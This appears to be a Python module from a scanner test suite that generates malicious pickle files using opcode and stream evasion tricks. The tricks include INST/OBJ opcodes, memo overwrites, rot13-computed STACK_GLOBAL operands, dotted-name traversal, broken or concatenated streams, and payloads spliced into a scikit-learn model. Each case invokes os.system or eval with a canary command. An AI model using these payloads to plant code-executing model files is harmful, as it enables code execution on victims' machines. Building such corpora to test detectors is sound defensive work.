"""Opcode- and stream-level evasions: the gadget is ordinary, the way it is written is not.

Each targets a parser differential between a static scanner and CPython's
unpickler: other opcodes (INST, OBJ, protocol 0 text), memo games, operands a
scanner does not expect, streams that break or continue after the payload.
"""

from __future__ import annotations

import io
import os
import pickle
from pathlib import Path

from .assembler import Call, Global, Opcodes, dumps
from .cases import MaliciousCase, pickle_load_twice
from .registry import Canary, pickle_case, technique, write_file

# --- opcode-level evasions ----------------------------------------------------------------


@technique
def protocol0_text_opcodes(directory: Path, canary: Canary) -> MaliciousCase:
    data = (
        Opcodes(protocol=None)
        .global_("posix", "system")
        .mark()
        .text_unicode(canary.shell)
        .tuple()
        .reduce()
        .stop()
        .bytes()
    )
    return pickle_case(
        directory,
        "protocol0_text_opcodes",
        data,
        technique="Protocol 0 (no PROTO opcode, all text): GLOBAL 'posix system', MARK, "
        "UNICODE line, TUPLE, REDUCE. Tests that a scanner reads the text opcodes.",
        source="picklescan tests/data/malicious2_v0.pkl and malicious1_v0.pkl.",
    )


@technique
def py2_builtin_module_name(directory: Path, canary: Canary) -> MaliciousCase:
    data = (
        Opcodes(protocol=2)
        .global_("__builtin__", "eval")
        .unicode(canary.python)
        .tuple1()
        .reduce()
        .stop()
        .bytes()
    )
    return pickle_case(
        directory,
        "py2_builtin_module_name",
        data,
        technique="Python 2's module name __builtin__.eval: a protocol < 3 unpickler maps it to "
        "builtins.eval (fix_imports), so a blocklist keyed on 'builtins' misses it.",
        source="picklescan tests/data/malicious1_v0.pkl; modelscan's settings list __builtin__ "
        "separately for this reason.",
    )


@technique
def inst_opcode(directory: Path, canary: Canary) -> MaliciousCase:
    data = (
        Opcodes(protocol=None).mark().text_unicode(canary.shell).inst("os", "system").stop().bytes()
    )
    return pickle_case(
        directory,
        "inst_opcode",
        data,
        technique="The INST opcode imports a global and calls it with the items since MARK "
        "in one step: no GLOBAL, no REDUCE for a scanner to see.",
        source="pickletools' INST documentation; picklescan's _list_globals handles INST as its "
        "own case; fickling PR #108 (the sibling OBJ form).",
    )


@technique
def obj_opcode_popped(directory: Path, canary: Canary) -> MaliciousCase:
    data = (
        Opcodes()
        .mark()
        .unicode("os")
        .unicode("system")
        .stack_global()
        .unicode(canary.shell)
        .obj()
        .pop()
        .none()
        .stop()
        .bytes()
    )
    return pickle_case(
        directory,
        "obj_opcode_popped",
        data,
        technique="The OBJ opcode calls os.system; POP discards the result and the pickle "
        "returns None, so an AST built from the stack loses the call.",
        source="fickling GHSA-mxhj-88fx-4pcv (OBJ calls discarded by POP were invisible).",
    )


@technique
def stack_global_memo_overwrite(directory: Path, canary: Canary) -> MaliciousCase:
    data = (
        Opcodes()
        .unicode("collections")
        .memoize()  # memo 0
        .pop()
        .unicode("OrderedDict")
        .memoize()  # memo 1
        .pop()
        # Overwrite both slots: a scanner that numbers MEMOIZE but ignores BINPUT's
        # index still believes memo 0/1 hold collections.OrderedDict.
        .unicode("os")
        .binput(0)
        .pop()
        .unicode("system")
        .binput(1)
        .pop()
        .binget(0)
        .binget(1)
        .stack_global()
        .unicode(canary.shell)
        .tuple1()
        .reduce()
        .stop()
        .bytes()
    )
    return pickle_case(
        directory,
        "stack_global_memo_overwrite",
        data,
        technique="STACK_GLOBAL whose operands come from the memo (BINGET) after the memo "
        "slots of a harmless collections.OrderedDict were overwritten with 'os'/'system'.",
        source="picklescan issue #22 (imaginaryCTF 2023 'Safe Pickle': memo handling bypass), "
        "fixed in picklescan 0.0.13; picklescan PR #52 (invalid memos).",
    )


@technique
def stack_global_binstring_operands(directory: Path, canary: Canary) -> MaliciousCase:
    data = (
        Opcodes()
        .short_binstring("os")
        .short_binstring("system")
        .stack_global()
        .unicode(canary.shell)
        .tuple1()
        .reduce()
        .stop()
        .bytes()
    )
    return pickle_case(
        directory,
        "stack_global_binstring_operands",
        data,
        technique="STACK_GLOBAL fed by Python 2 SHORT_BINSTRING operands (which Python 3 "
        "decodes to str) instead of the unicode opcodes scanners expected.",
        source="picklescan GHSA-9gvj-pp9x-gcfr (pickle parsing logic flaw, fixed in PR #46).",
    )


@technique
def stack_global_computed_operands(directory: Path, canary: Canary) -> MaliciousCase:
    # rot13 of "os" and "system", decoded at load time by _codecs.encode, which
    # numpy's own pickles use (so scanners allow it). The two results are left
    # on the stack as STACK_GLOBAL's operands.
    data = (
        Opcodes()
        .global_("_codecs", "encode")
        .memoize()  # memo 0: _codecs.encode
        .unicode("bf")
        .unicode("rot13")
        .tuple2()
        .reduce()  # -> "os"
        .binget(0)
        .unicode("flfgrz")
        .unicode("rot13")
        .tuple2()
        .reduce()  # -> "system"
        .stack_global()
        .unicode(canary.shell)
        .tuple1()
        .reduce()
        .stop()
        .bytes()
    )
    return pickle_case(
        directory,
        "stack_global_computed_operands",
        data,
        technique="STACK_GLOBAL whose module and name are computed at load time "
        "(_codecs.encode('bf', 'rot13') -> 'os'): the dangerous name never appears in the file.",
        source="picklescan PR #52 and tests/data2/type-confusion-exploit.pkl (non-string "
        "STACK_GLOBAL operands); _codecs.encode is allowed because numpy pickles use it.",
    )


@technique
def dotted_name_traversal(directory: Path, canary: Canary) -> MaliciousCase:
    data = dumps(Call(Global("pathlib", "os.system"), canary.shell))
    return pickle_case(
        directory,
        "dotted_name_traversal",
        data,
        technique="STACK_GLOBAL('pathlib', 'os.system'): protocol 4 resolves dotted names by "
        "attribute traversal, so a harmless module reaches os.system through its imports.",
        source="fickling GHSA-5j3x-jp52-966f (dotted attribute via a stdlib module).",
    )


@technique
def builtins_import_getattr_memo(directory: Path, canary: Canary) -> MaliciousCase:
    data = (
        Opcodes(protocol=None)
        .global_("builtins", "__import__")
        .text_unicode("os")
        .raw(pickle.TUPLE1)
        .reduce()
        .raw(b"p0\n")  # PUT 0
        .pop()
        .global_("builtins", "getattr")
        .raw(b"g0\n")  # GET 0
        .text_unicode("system")
        .tuple2()
        .reduce()
        .raw(b"p1\n")
        .pop()
        .raw(b"g1\n")
        .text_unicode(canary.shell)
        .tuple1()
        .reduce()
        .stop()
        .bytes()
    )
    return pickle_case(
        directory,
        "builtins_import_getattr_memo",
        data,
        technique="builtins.__import__('os') and builtins.getattr(os, 'system'), each result "
        "parked in the memo (PUT) and popped, then fetched back (GET) and called.",
        source="fickling GHSA-h4rm-mm56-xf63 (builtins __import__/getattr bypass).",
    )


# --- stream-level tricks --------------------------------------------------------------------


@technique
def nullifai_broken_stream(directory: Path, canary: Canary) -> MaliciousCase:
    payload = dumps(Call(os.system, canary.shell), protocol=2)
    # The payload's REDUCE runs; then, instead of STOP, bytes that are no opcode.
    data = payload[:-1] + b"\xff\xfe broken"
    return pickle_case(
        directory,
        "nullifai_broken_stream",
        data,
        technique="The payload sits at the start of the stream and the stream is broken right "
        "after it: the unpickler runs the payload before it fails, while a scanner that parses "
        "the whole stream first reports a parse error (or nothing).",
        source="ReversingLabs, nullifAI (2025): 'broken' pickles in 7z-compressed PyTorch "
        "files on Hugging Face. The 7z container is not reproduced (torch.load cannot read it).",
    )


@technique
def concatenated_second_pickle(directory: Path, canary: Canary) -> MaliciousCase:
    benign = pickle.dumps({"epoch": 3, "accuracy": 0.91})
    path = write_file(
        directory / "concatenated_second_pickle.pkl",
        benign + dumps(Call(os.system, canary.shell)),
    )
    return MaliciousCase(
        name="concatenated_second_pickle",
        technique="A harmless pickle followed by a malicious one in the same file; code that "
        "calls pickle.load twice (as torch's legacy format does) runs the second.",
        source="ModelAudit PR #330 (multiple pickle streams); picklescan's multiple_pickles "
        "scanning; torch's legacy format is concatenated pickles.",
        path=path,
        load=pickle_load_twice(path),
    )


@technique
def sleepy_pickle_injected_model(directory: Path, canary: Canary) -> MaliciousCase:
    from fickling.fickle import Pickled
    from sklearn.linear_model import LogisticRegression

    model = LogisticRegression().fit([[0.0], [1.0], [2.0], [3.0]], [0, 0, 1, 1])
    pickled = Pickled.load(pickle.dumps(model))
    pickled.insert_python_exec(canary.python, run_first=True, use_output_as_unpickle_result=False)
    buffer = io.BytesIO()
    pickled.dump(buffer)
    return pickle_case(
        directory,
        "sleepy_pickle_injected_model",
        buffer.getvalue(),
        technique="A payload spliced into a real scikit-learn model pickle (fickling --inject): "
        "the load still returns a working model, so nothing looks wrong.",
        source="Trail of Bits, 'Never a dill moment' (2021) and 'Sleepy Pickle' (2024); "
        "fickling's --inject.",
    )
